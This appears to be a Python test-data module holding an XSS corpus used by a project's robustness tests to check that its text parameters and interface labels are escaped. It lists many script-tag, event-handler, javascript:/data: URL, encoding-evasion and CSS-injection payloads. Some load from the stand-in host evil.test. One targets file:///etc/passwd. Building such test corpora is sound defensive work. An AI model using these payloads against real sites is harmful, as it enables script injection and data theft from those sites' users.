"""Our XSS corpus: hostile texts, each trying to run ``window.__xss=1`` (or ``alert``) or to
load a non-http URL. The robustness tests put every one in every text parameter of every
Set (``tests/robustness/test_xss.py``); the interface check (:mod:`.check`) puts
:data:`CHECK_TEXTS` in an interface's ``Legend`` and names.

A payload starting with ``RAW:`` is put in the query string as written (already escaped,
for the legacy ``%u`` and double-encoding tricks); the others are percent-encoded.
"""

from __future__ import annotations

__all__ = ["CHECK_TEXTS", "CSS_PAYLOADS", "PAYLOADS", "PROBE"]

#: The global every payload tries to set: defined on a page, a hostile text ran there.
PROBE = "__xss"

PAYLOADS: tuple[str, ...] = (
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<script>alert(1)</script>",
    "</title><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.__xss=1><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<math href=javascript:window.__xss=1>x</math>",
    "<body onload=window.__xss=1>",
    "<iframe src=javascript:window.top.__xss=1></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<object data=javascript:window.__xss=1>",
    "<embed src=data:text/html,<script>parent.__xss=1</script>>",
    "<a href=javascript:window.__xss=1>x</a>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<video><source onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__xss=1'>",
    "<base href=javascript:/>",
    "<link rel=stylesheet href=data:text/css,body{}>",
    "<style>@import 'javascript:window.__xss=1';</style>",
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    '" onmouseover="window.__xss=1',
    "' onfocus='window.__xss=1' autofocus='",
    '" autofocus onfocus=window.__xss=1 x="',
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    " javascript:window.__xss=1",
    "java\tscript:window.__xss=1",
    "java\nscript:window.__xss=1",
    "\x01javascript:window.__xss=1",
    "javascript&colon;window.__xss=1",
    "&#106;avascript:window.__xss=1",
    "&#x6A;avascript:window.__xss=1",
    "data:text/html,<script>parent.__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "blob:http://x/1",
    "file:///etc/passwd",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "＜script＞window.__xss=1＜/script＞",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<!--<script>window.__xss=1</script>-->",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "{{7*7}}${window.__xss=1}",
    "</style><script>window.__xss=1</script>",
    "RAW:%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
    "RAW:%253Cscript%253Ewindow.__xss%253D1%253C%252Fscript%253E",
    "RAW:%u003Cscript%u003Ewindow.__xss=1%u003C/script%u003E",
    "RAW:%u003Cimg%20src=x%20onerror=window.__xss=1%u003E",
    "RAW:%uFF1Cscript%uFF1Ewindow.__xss=1%uFF1C/script%uFF1E",
    "RAW:javascript%u003Awindow.__xss=1",
    "RAW:java%09script:window.__xss=1",
    "RAW:%6A%61%76%61%73%63%72%69%70%74%3Awindow.__xss=1",
    "RAW:%00javascript:window.__xss=1",
    "RAW:%C0%BCscript%C0%BEwindow.__xss=1%C0%BC/script%C0%BE",
    "RAW:%E0%80%BCscript%E0%80%BE",
    "RAW:data%3Atext/html%2C%3Cscript%3Eparent.__xss%3D1%3C/script%3E",
)

CSS_PAYLOADS: tuple[str, ...] = (
    "red;background:url(javascript:window.__xss=1)",
    "#fff;background-image:url(data:image/svg+xml,<svg onload=window.__xss=1>)",
    "expression(window.__xss=1)",
    '#000"><script>window.__xss=1</script>',
    "</style><script>window.__xss=1</script>",
    "ff0000;behavior:url(x.htc)",
    '#abc" onload="window.__xss=1',
    "RAW:%23abc%22%20style%3D%22background:url(javascript:window.__xss=1)",
    "RAW:%u0023fff%u003B-moz-binding:url(x)",
    "#ffffff;}*{background:url(//evil.test/x)",
)

#: The payloads the interface check puts in ``Legend``, ``Name1`` and ``Name2``, three to a
#: context: those a page writing a text as HTML falls to (an element's handler, an SVG's
#: load, a closed attribute, an ``alert``), and a script tag, which ``innerHTML`` does not
#: run but ``document.write`` does.
CHECK_TEXTS: tuple[tuple[str, str, str], ...] = (
    (
        "<img src=x onerror=window.__xss=1>",
        "<svg onload=window.__xss=1>",
        "<script>window.__xss=1</script>",
    ),
    (
        "<img src=x onerror=alert(1)>",
        "'><img src=x onerror=window.__xss=1>",
        "<details open ontoggle=window.__xss=1>",
    ),
)
